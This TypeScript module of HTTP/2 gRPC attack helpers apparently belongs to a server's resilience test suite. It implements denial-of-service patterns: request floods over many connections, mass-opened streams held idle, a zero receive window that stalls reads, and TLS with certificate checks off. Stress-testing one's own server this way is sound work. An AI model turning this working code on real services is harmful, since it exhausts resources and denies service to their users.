/** Calls of an attack: held, repeated or sent at once, over connections of their own. */
import {
  type ClientHttp2Session,
  type ClientHttp2Stream,
  connect as connectHttp2,
  type IncomingHttpHeaders,
} from 'node:http2';
import { connect as connectSocket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { framed } from '../support/grpc.ts';

/** Whom to attack, and from where. */
export interface Target {
  host: string;
  port: number;
  localAddress: string;
  /** Whether it is reached by TLS. */
  isTls?: boolean;
  /** An image of the store, for those that read. */
  filename: string;
}

export type Attack = (target: Target) => Promise<void>;

/** How many of its calls ended with each status. */
export const answers: Record<string, number> = {};

/** How long an attack that holds something holds it, and an attack in rounds goes on. */
export const ATTACK_MS = 4_000;
const MAX_ROUNDS = 40;

export interface Options {
  headers?: Record<string, string>;
  /** Half-closes behind the body. */
  end?: boolean;
  /** The receive window of each stream; 0 reads nothing. */
  window?: number;
}

/** Over so many connections, so many callers that each ask again once they are answered. */
export function flood(connections: number, callers: number, path: string): Attack {
  return (target) =>
    withSessions(target, connections, async (sessions) => {
      const end = performance.now() + ATTACK_MS;
      const repeat = async (session: ClientHttp2Session) => {
        while (performance.now() < end && !session.destroyed) {
          const call = open(session, path);
          const closed = closing(call);
          send(call, framed(Buffer.alloc(0)), { end: true });
          await closed;
        }
      };
      const all = sessions.flatMap((session) => Array.from({ length: callers }, () => repeat(session)));
      await Promise.race([Promise.all(all), sleep(2 * ATTACK_MS)]);
    });
}

/** Opens so many calls at once, sends the body in each, and holds them. */
export function held(target: Target, path: string, calls: number, body: Buffer, options: Options = {}): Promise<void> {
  return withSessions(
    target,
    1,
    async ([session]) => {
      for (let count = 0; count < calls; count += 1) send(open(session!, path, options), body, options);
      await sleep(ATTACK_MS);
    },
    options,
  );
}

/** Opens so many calls at once, sends the body in each, and waits for their answers. */
export function answered(
  target: Target,
  path: string,
  calls: number,
  body: Buffer,
  options: Options = {},
): Promise<void> {
  return withSessions(
    target,
    1,
    async ([session]) => {
      const all = Array.from({ length: calls }, () => {
        const call = open(session!, path, options);
        const closed = closing(call);
        send(call, body, options);
        return closed;
      });
      await Promise.race([Promise.all(all), sleep(2 * ATTACK_MS)]);
    },
    options,
  );
}

export async function withSessions(
  target: Target,
  count: number,
  work: (sessions: ClientHttp2Session[]) => Promise<void>,
  { window = 1 << 20 }: Options = {},
): Promise<void> {
  const sessions = Array.from({ length: count }, () =>
    connectHttp2(`http://${target.host}:${target.port}`, {
      createConnection: () => connectTo(target),
      settings: { initialWindowSize: window },
    }),
  );
  for (const session of sessions) session.on('error', () => session.destroy());
  try {
    await work(sessions);
  } finally {
    for (const session of sessions) session.destroy();
  }
}

function connectTo({ host, port, localAddress, isTls = false }: Target) {
  const where = { host, port, localAddress };
  return isTls ? connectTls({ ...where, rejectUnauthorized: false, ALPNProtocols: ['h2'] }) : connectSocket(where);
}

export function open(session: ClientHttp2Session, path: string, { headers }: Options = {}): ClientHttp2Stream {
  const fields = { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers', ...headers };
  const call = session.request(fields, { endStream: false });
  call.on('error', () => {}).resume();
  const count = (answer: IncomingHttpHeaders) => {
    const status = answer['grpc-status'];
    if (status !== undefined) answers[String(status)] = (answers[String(status)] ?? 0) + 1;
  };
  call.on('response', count).on('trailers', count);
  return call;
}

export function send(call: ClientHttp2Stream, body: Buffer, { end = false }: Options): void {
  call.write(body);
  if (end) call.end();
}

export function closing(call: ClientHttp2Stream): Promise<void> {
  return new Promise((resolve) => call.once('close', resolve));
}

export function inRounds(round: Attack, rounds = MAX_ROUNDS): Attack {
  return async (target) => {
    const end = performance.now() + ATTACK_MS;
    for (let count = 0; count < rounds && performance.now() < end; count += 1) await round(target);
  };
}
